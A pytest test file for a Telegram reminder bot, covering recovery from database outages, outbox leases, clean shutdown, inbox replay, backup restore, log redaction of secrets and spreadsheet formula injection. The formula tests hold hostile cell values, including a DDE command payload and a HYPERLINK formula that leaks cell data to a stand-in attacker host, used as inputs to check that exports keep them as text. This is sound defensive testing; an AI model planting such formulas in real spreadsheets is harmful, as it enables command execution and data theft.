"""Nothing lost, nothing silent (issue: hardening): long-lived tasks survive database errors,
claims have leases, a stop drains, updates come through the inbox, workbooks cannot inject
formulas, restore accepts only zhibu databases, secrets stay out of logs and files."""

from __future__ import annotations

import asyncio
import io
import logging
import os
import sqlite3
import stat
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.exc import OperationalError

from bot.ops.doctor import run_checks
from bot.ops.logs import RedactingFilter, setup_logging
from bot.rules.clock import FrozenClock
from bot.rules.workdays import HolidayFileError, parse_holiday_file
from bot.services.roster import (
    MEMBER_SHEET,
    TEMPLATE_MEMBER_HEADERS,
    import_roster,
    read_csv,
    read_workbook,
    write_template,
)
from bot.store import inbox, outbox
from bot.store.backup import BackupError, backup, pg_dump_command, restore
from bot.store.db import Database
from bot.store.leader import AlreadyRunning, sqlite_lock
from bot.store.liveness import Liveness
from bot.store.models import InboxUpdate, TaskLiveness
from bot.store.outbox import NewMessage
from handlers.kit.intake import parse_update
from jobs import tick as tick_job
from settings import Settings
from tests.fakegram import FakeTelegram, Faults, Limits
from tests.helpers import SMALL_MEMBERS, SMALL_ORGS, RunningBot, link, start_bot, workbook_bytes


async def fill(db: Database, chats: list[int], now: Any, batch: str = "t") -> None:
    async with db.write() as session:
        await outbox.enqueue(
            session,
            [NewMessage(f"{batch}|{c}", "reminder", c, f"{batch} 提醒", now) for c in chats],
            now=now,
        )


async def counts(db: Database) -> dict[str, int]:
    async with db.read() as session:
        return await outbox.counts(session)


def started(fake: FakeTelegram, n: int) -> list[Any]:
    users = [fake.add_user(f"U{i}") for i in range(n)]
    for u in users:
        u.user.started = True
    return users


class Outage:
    """Every write transaction of ``db`` fails ("database is locked") while ``on``, whether
    written with ``write`` or as a ``unit``."""

    def __init__(self, db: Database, monkeypatch: pytest.MonkeyPatch) -> None:
        self.on = False
        self.failures = 0
        real, real_unit = db.write, db.unit

        def fail() -> None:
            if self.on:
                self.failures += 1
                raise OperationalError(
                    "BEGIN IMMEDIATE", {}, sqlite3.OperationalError("database is locked")
                )

        def write() -> Any:
            fail()
            return real()

        async def unit(work: Any, *, write: bool = True, short: bool = False) -> Any:
            if write:
                fail()
            return await real_unit(work, write=write, short=short)

        monkeypatch.setattr(db, "write", write)
        monkeypatch.setattr(db, "unit", unit)


# ---------------------------------------------------------------- 1. tasks survive


async def test_sender_survives_a_database_outage_and_resumes_by_itself(
    fake: FakeTelegram,
    db: Database,
    clock: FrozenClock,
    settings: Settings,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    outage = Outage(db, monkeypatch)
    running = await start_bot(fake, db, clock, settings)
    deps = running.app.bot_data["deps"]
    try:
        outage.on = True
        await fake.wait_for(lambda: outage.failures >= 3, timeout=10)
        report = deps.liveness.report()
        assert report["sender"]["failures"] >= 1 and "locked" in report["sender"]["last_error"]
        outage.on = False
        users = started(fake, 20)
        await fill(db, [u.id for u in users], clock.now())
        deps.sender.wake()
        await fake.wait_for(lambda: all(u.bot_messages() for u in users), timeout=30)
        assert deps.liveness.report()["sender"]["failures"] == 0
    finally:
        outage.on = False
        await running.stop()


async def test_tick_and_housekeeping_survive_a_database_outage(
    bot: RunningBot, db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    outage = Outage(db, monkeypatch)
    deps = bot.app.bot_data["deps"]
    liveness = deps.liveness
    outage.on = True
    await tick_job.survive(deps, "tick", tick_job.tick_once)  # no exception escapes: it runs
    await tick_job.survive(deps, "housekeeping", tick_job.prune_once)  # again at its next time
    report = liveness.report()
    assert report["tick"]["failures"] == 1 and report["housekeeping"]["failures"] == 1
    outage.on = False
    await tick_job.survive(deps, "tick", tick_job.tick_once)
    await tick_job.survive(deps, "housekeeping", tick_job.prune_once)
    report = liveness.report()
    assert report["tick"]["failures"] == 0 and report["tick"]["last_ok"] is not None
    assert report["housekeeping"]["failures"] == 0


async def test_intake_survives_a_database_outage_and_loses_no_update(
    bot: RunningBot, fake: FakeTelegram, db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    """While updates cannot be stored they are not confirmed; once they can, all are handled."""
    user = fake.add_user("Wang")
    user.user.started = True
    outage = Outage(db, monkeypatch)
    outage.on = True
    user.send("/help")
    await fake.wait_for(lambda: outage.failures >= 3, timeout=10)
    # told once that it waits, however often storing failed; not handled meanwhile
    assert [m.content for m in user.bot_messages()] == [
        "数据库暂时不可用。您的消息已收到，稍后恢复时会自动处理，无需重发。"
    ]
    outage.on = False
    await fake.wait_for(lambda: len(user.bot_messages()) == 2, timeout=20)
    assert "可用命令" in user.bot_messages()[-1].content


async def test_doctor_reports_a_stalled_task(
    db: Database, settings: Settings, clock: FrozenClock
) -> None:
    live = FrozenClock(clock.now())
    liveness = Liveness(live)
    liveness.ok("sender")
    liveness.ok("tick")
    live.advance(timedelta(minutes=2))
    liveness.ok("tick")
    liveness.failed("sender", OperationalError("x", {}, Exception("database is locked")))
    assert liveness.report()["sender"]["ok"] is False and liveness.report()["tick"]["ok"] is True
    assert not liveness.healthy()
    async with db.write() as session:
        await liveness.save(session)
    said = [(c.ok, *c.said("en")) for c in await run_checks(settings, now=live.now())]
    checks = {name: (ok, detail) for ok, name, detail, _ in said}
    assert not checks["task sender"][0] and "database is locked" in checks["task sender"][1]
    assert checks["task tick"][0]


# ---------------------------------------------------------------- 5. leases


async def test_claims_have_leases_recovered_when_they_run_out(
    db: Database, clock: FrozenClock
) -> None:
    await fill(db, [1, 2, 3], clock.now())
    async with db.write() as session:
        claimed = await outbox.claim(session, now=clock.now(), limit=3)
    assert len(claimed) == 3
    async with db.write() as session:  # still held: nothing recovered
        assert await outbox.recover(session, now=clock.now() + timedelta(seconds=30)) == 0
    async with db.write() as session:  # this process still holds row 1
        later = clock.now() + outbox.LEASE + timedelta(seconds=1)
        assert await outbox.recover(session, now=later, keep={claimed[0].id}) == 2
    assert (await counts(db))["pending"] == 2


async def test_a_row_whose_delivery_broke_is_sent_after_its_lease(
    fake: FakeTelegram,
    db: Database,
    clock: FrozenClock,
    settings: Settings,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    user = started(fake, 1)[0]
    running = await start_bot(fake, db, clock, settings)
    sender = running.app.bot_data["deps"].sender
    real = sender.deliver
    broken = {"left": 1}

    async def deliver(row: outbox.Claimed) -> None:
        if broken["left"]:
            broken["left"] -= 1
            raise RuntimeError("something unexpected")
        await real(row)

    monkeypatch.setattr(sender, "deliver", deliver)
    monkeypatch.setattr("jobs.sender.RECOVER_EVERY", 0.2)
    # the row is queued only now: queued before the start, the sender could send it before
    # its delivery was broken (this test failed now and then)
    await fill(db, [user.id], clock.now())
    try:
        sender.wake()
        # the broken delivery changes nothing at the fake: poll for it, not for the fake
        for _ in range(200):
            if broken["left"] == 0:
                break
            await asyncio.sleep(0.05)
        assert broken["left"] == 0, "the sender never tried the row"
        await asyncio.sleep(0.5)
        assert (await counts(db))["sending"] == 1 and not user.bot_messages()  # lease holds
        clock.advance(outbox.LEASE + timedelta(seconds=1))
        await fake.wait_for(lambda: user.bot_messages(), timeout=10)
    finally:
        await running.stop()
    assert len(user.bot_messages()) == 1 and (await counts(db))["sent"] == 1


# ---------------------------------------------------------------- 6. a clean stop


async def test_a_stop_mid_broadcast_lets_sends_finish_and_gives_back_the_rest(
    fake: FakeTelegram, db: Database, clock: FrozenClock, settings: Settings
) -> None:
    fake.limits = Limits(overall_per_second=300, private_per_second=5, group_per_minute=200)
    fake.faults = Faults(slow_rate=1.0, slow_seconds=0.3, methods={"sendMessage"})
    fast = settings.model_copy(update={"rate_overall_per_second": 300, "sender_workers": 16})
    users = started(fake, 200)
    await fill(db, [u.id for u in users], clock.now())
    first = await start_bot(fake, db, clock, fast)
    await fake.wait_for(lambda: sum(bool(u.bot_messages()) for u in users) >= 20, timeout=30)
    await first.stop()
    after_stop = await counts(db)
    assert after_stop["sending"] == 0  # nothing left claimed: sent, or given back
    delivered = sum(len(u.bot_messages()) for u in users)
    assert after_stop["sent"] == delivered
    fake.faults = Faults()
    second = await start_bot(fake, db, clock, fast)
    try:
        await fake.wait_for(lambda: all(u.bot_messages() for u in users), timeout=60)
    finally:
        await second.stop()
    assert [len(u.bot_messages()) for u in users] == [1] * 200


# ---------------------------------------------------------------- 7. the inbox


async def test_updates_stored_but_not_handled_are_handled_after_a_restart(
    fake: FakeTelegram, db: Database, clock: FrozenClock, settings: Settings
) -> None:
    user = fake.add_user("Li")
    user.user.started = True
    stored = fake.push_update(
        "message", fake.message_dict(fake.new_message(user.chat, user.id, text="/help"))
    )
    async with db.write() as session:  # as a process that died after storing it would leave it
        await session.run_sync(
            lambda s: inbox.store(s, [(stored["update_id"], stored)], now=clock.now())
        )
    fake.updates.clear()  # and Telegram has it confirmed
    running = await start_bot(fake, db, clock, settings)
    try:
        await fake.wait_for(lambda: user.bot_messages(), timeout=10)
    finally:
        await running.stop()
    assert "可用命令" in user.bot_messages()[0].content
    async with db.read() as session:
        row = await session.get(InboxUpdate, stored["update_id"])
    assert row is not None and row.handled_at is not None and row.payload is None


async def test_an_update_is_marked_handled_with_its_first_change(
    bot: RunningBot, fake: FakeTelegram, db: Database, clock: FrozenClock
) -> None:
    """/away writes; the inbox row is marked in that same transaction (a second delivery of the
    update changes nothing)."""
    orgs, members = read_workbook(workbook_bytes(SMALL_ORGS, SMALL_MEMBERS))
    await import_roster(db, orgs, members, now=clock.now(), default_timezone="Asia/Shanghai")
    user = fake.add_user("Zhang")
    await link(db, "S003", user.id, clock.now())
    answer = await user.ask("/away 3-20")
    update = fake.update_log[-1]
    async with db.read() as session:
        row = await session.get(InboxUpdate, update["update_id"])
    assert row is not None and row.handled_at is not None
    before = len(user.bot_messages())
    fake.redeliver(update)
    await asyncio.sleep(1.0)
    assert len(user.bot_messages()) == before and answer.content


async def test_a_change_saved_but_never_answered_is_answered_after_a_restart(
    fake: FakeTelegram, db: Database, clock: FrozenClock, settings: Settings
) -> None:
    """A process died between committing /away and replying: the next one tells the person
    their action was saved, once; a button press the same way, in their private chat."""
    user = fake.add_user("Li")
    user.user.started = True
    typed = fake.push_update(
        "message", fake.message_dict(fake.new_message(user.chat, user.id, text="/away 3-20"))
    )
    pressed = fake.push_update(
        "callback_query",
        {"id": "77", "from": user.user.as_dict(), "chat_instance": "1", "data": "mt:c:1"},
    )
    async with db.write() as session:  # as the process that died left them: handled, payload kept
        both = [(u["update_id"], u) for u in (typed, pressed)]
        await session.run_sync(lambda s: inbox.store(s, both, now=clock.now()))
        for u in (typed, pressed):
            await session.run_sync(
                lambda s, uid=u["update_id"]: inbox.mark_handled(
                    s, uid, now=clock.now(), answered=False
                )
            )
    fake.updates.clear()
    for _ in range(2):  # the second start owes nobody anything
        running = await start_bot(fake, db, clock, settings)
        try:
            await fake.wait_for(lambda: len(user.bot_messages()) >= 2, timeout=10)
            await asyncio.sleep(0.5)
        finally:
            await running.stop()
    notices = [m.content for m in user.bot_messages()]
    assert len(notices) == 2
    assert "您刚才的操作（/away 3-20）已经保存" in notices[0]
    assert "您刚才的操作（点按的按钮）已经保存" in notices[1]
    async with db.read() as session:
        assert await inbox.unanswered(session) == []


async def test_an_answered_update_keeps_no_payload(
    bot: RunningBot, fake: FakeTelegram, db: Database, clock: FrozenClock
) -> None:
    orgs, members = read_workbook(workbook_bytes(SMALL_ORGS, SMALL_MEMBERS))
    await import_roster(db, orgs, members, now=clock.now(), default_timezone="Asia/Shanghai")
    user = fake.add_user("Zhang")
    await link(db, "S003", user.id, clock.now())
    await user.ask("/away 3-20")
    await asyncio.sleep(0.3)
    async with db.read() as session:
        assert await inbox.unanswered(session) == []


# ---------------------------------------------------------------- 8. formulas stay text


async def test_ledger_and_template_write_formula_like_text_as_text(
    db: Database, clock: FrozenClock, tmp_path: Path
) -> None:
    from bot.exports import ledger
    from bot.store.models import Record
    from tests.helpers import member_id, org_id

    hostile = ["=1+1", "+1+1", "-2+3", "@SUM(1+9)", "=cmd|' /C calc'!A0"]
    people = [["ZB", name, f"H{i}", "", "", "", ""] for i, name in enumerate(hostile)]
    rows = [TEMPLATE_MEMBER_HEADERS, *SMALL_MEMBERS, *people]  # a CSV keeps them as typed
    text = "\n".join(",".join(f'"{c}"' for c in row) for row in rows)
    orgs, _ = read_workbook(workbook_bytes(SMALL_ORGS, []))
    members = read_csv(text.encode(), MEMBER_SHEET)
    result = await import_roster(
        db, orgs, members, now=clock.now(), default_timezone="Asia/Shanghai"
    )
    assert result.counts is not None, result.problems
    branch = await org_id(db, "ZB")
    async with db.write() as session:  # each of them files a note, so the ledger names them
        for i in range(len(hostile)):
            session.add(
                Record(
                    org_id=branch,
                    kind="study_note",
                    member_id=await member_id(db, f"H{i}"),
                    held_on=clock.now().date(),
                    summary="学习心得" * 20,
                    filed_by=1,
                    filed_at=clock.now(),
                )
            )
    async with db.read() as session:
        data = await ledger.export(session, branch, 2026, now=clock.now())
    wb = load_workbook(io.BytesIO(data))
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen[cell.value] = cell
    for name in hostile:
        assert seen[name].data_type == "s" and seen[name].quotePrefix, name
    template = tmp_path / "template.xlsx"
    write_template(str(template))
    for ws in load_workbook(template).worksheets:
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


async def test_a_study_note_with_a_hyperlink_formula_stays_text(
    db: Database, clock: FrozenClock
) -> None:
    from bot.exports import ledger
    from bot.store.models import Record
    from tests.helpers import member_id, org_id

    orgs, members = read_workbook(workbook_bytes(SMALL_ORGS, SMALL_MEMBERS))
    await import_roster(db, orgs, members, now=clock.now(), default_timezone="Asia/Shanghai")
    note = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看学习资料")' + "。" * 40
    branch = await org_id(db, "ZB")
    async with db.write() as session:
        session.add(
            Record(
                org_id=branch,
                kind="study_note",
                member_id=await member_id(db, "S003"),
                held_on=clock.now().date(),
                summary=note,
                filed_by=1,
                filed_at=clock.now(),
            )
        )
    async with db.read() as session:
        data = await ledger.export(session, branch, 2026, now=clock.now())
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == note]
    assert cells and all(c.data_type == "s" for c in cells)


# ---------------------------------------------------------------- 9. restore


async def test_restore_refuses_what_is_not_a_zhibu_database_and_keeps_the_old_one(
    bot: RunningBot, db: Database, clock: FrozenClock, settings: Settings, tmp_path: Path
) -> None:
    orgs, members = read_workbook(workbook_bytes(SMALL_ORGS, SMALL_MEMBERS))
    await import_roster(db, orgs, members, now=clock.now(), default_timezone="Asia/Shanghai")
    good = tmp_path / "good.db"
    backup(settings.database_url, good)
    assert stat.S_IMODE(good.stat().st_mode) == 0o600
    assert not [p for p in os.listdir(tmp_path) if p.startswith("good.db.partial")]
    await bot.stop()
    await db.dispose()
    empty = tmp_path / "empty.db"
    empty.write_bytes(b"")
    foreign = tmp_path / "foreign.db"
    with sqlite3.connect(foreign) as conn:
        conn.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, text TEXT)")
    conn.close()
    garbage = tmp_path / "garbage.db"
    garbage.write_bytes(b"SQLite format 3\x00" + os.urandom(4096))
    for bad in (empty, foreign, garbage, tmp_path / "missing.db"):
        with pytest.raises(BackupError):
            restore(settings.database_url, bad, now=clock.now())
        with sqlite3.connect(settings.database_url.split("///", 1)[1]) as conn:  # untouched
            assert conn.execute("SELECT count(*) FROM members").fetchone()[0] == 5
        conn.close()
    done = restore(settings.database_url, good, now=clock.now())
    assert done.revision and done.counts["members"] == 5 and done.counts["orgs"] == 3
    assert done.kept is not None and done.kept.exists() and ".before-restore-" in done.kept.name


# ---------------------------------------------------------------- 10. secrets


def test_redaction_covers_every_secret_and_invite_tokens(
    capsys: pytest.CaptureFixture[str],
) -> None:
    settings = Settings(
        _env_file=None,  # type: ignore[call-arg]
        bot_token="123456:secret-token-abcdefghijklmnopqrstuvwxyz",
        webhook_url="https://example.org/hook",
        webhook_secret="hook-secret-42",
        database_url="postgresql://zhibu:db-password-7@db.example/zhibu",
    )
    assert set(settings.secrets()) == {
        "123456:secret-token-abcdefghijklmnopqrstuvwxyz",
        "hook-secret-42",
        "db-password-7",
    }
    redactor = RedactingFilter(settings.secrets())
    line = redactor.redact(
        "hook-secret-42 db-password-7 https://t.me/bot?start=join_AbC-123_x "
        "postgresql://u:other-pass@h/d 987654:AAAAAAAAAAAAAAAAAAAAAAAAA"
    )
    for secret in ("hook-secret-42", "db-password-7", "AbC-123_x", "other-pass", "AAAAAAAAAAAA"):
        assert secret not in line
    try:
        setup_logging("DEBUG", settings.secrets())
        logging.getLogger("telegram.ext.ExtBot").debug("sendMessage text=邀请 start=join_XYZ")
        logging.getLogger("zhibu.test").debug("invite https://t.me/b?start=member_SeCrEt1")
    finally:
        logging.getLogger().handlers.clear()
    err = capsys.readouterr().err
    assert "join_XYZ" not in err and "SeCrEt1" not in err and "start=***" in err


def test_pg_dump_gets_the_password_from_the_environment(tmp_path: Path) -> None:
    command, env = pg_dump_command("postgresql+asyncpg://zhibu:pw-in-url@db/zhibu", tmp_path / "x")
    assert all("pw-in-url" not in part for part in command)
    assert env == {"PGPASSWORD": "pw-in-url"}


# ---------------------------------------------------------------- 12. webhook bodies


@pytest.mark.parametrize(
    "body",
    [b"null", b"[]", b"5", b'"text"', b"{}", b'{"update_id": "1"}', b'{"update_id": true}',
     b'{"update_id": 1, "message": 5}', b'{"update_id": 1, "message": {"chat": 3}}',
     b"[" * 100_000 + b"]" * 100_000],
)  # fmt: skip
async def test_bodies_that_are_not_updates_are_refused(bot: RunningBot, body: bytes) -> None:
    assert parse_update(body, bot.app) is None


# ---------------------------------------------------------------- 13. smaller


def test_a_hard_link_to_the_database_is_the_same_lock(tmp_path: Path) -> None:
    db_file = tmp_path / "zhibu.db"
    alias = tmp_path / "alias.db"
    with sqlite_lock(f"sqlite+aiosqlite:///{db_file}"):
        os.link(db_file, alias)
        with pytest.raises(AlreadyRunning), sqlite_lock(f"sqlite+aiosqlite:///{alias}"):
            pass


def test_a_holiday_name_too_long_is_refused_before_the_database() -> None:
    with pytest.raises(HolidayFileError) as caught:
        parse_holiday_file("2027-10-01..2027-10-07 holiday " + "国庆节" * 20)
    assert caught.value.problems[0][1] == "holidays.name_too_long"


async def test_backup_leaves_no_partial_files(
    db: Database, settings: Settings, tmp_path: Path
) -> None:
    target = tmp_path / "out" / "copy.db"
    target.parent.mkdir()
    backup(settings.database_url, target)
    assert sorted(p.name for p in target.parent.iterdir()) == ["copy.db"]
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


async def test_liveness_rows_are_written(db: Database, clock: FrozenClock) -> None:
    liveness = Liveness(clock)
    liveness.ok("sender")
    async with db.write() as session:
        await liveness.save(session)
        await liveness.save(session)
    async with db.read() as session:
        rows = list((await session.execute(select(TaskLiveness))).scalars())
    assert [r.name for r in rows] == ["sender"] and rows[0].last_ok == clock.now()
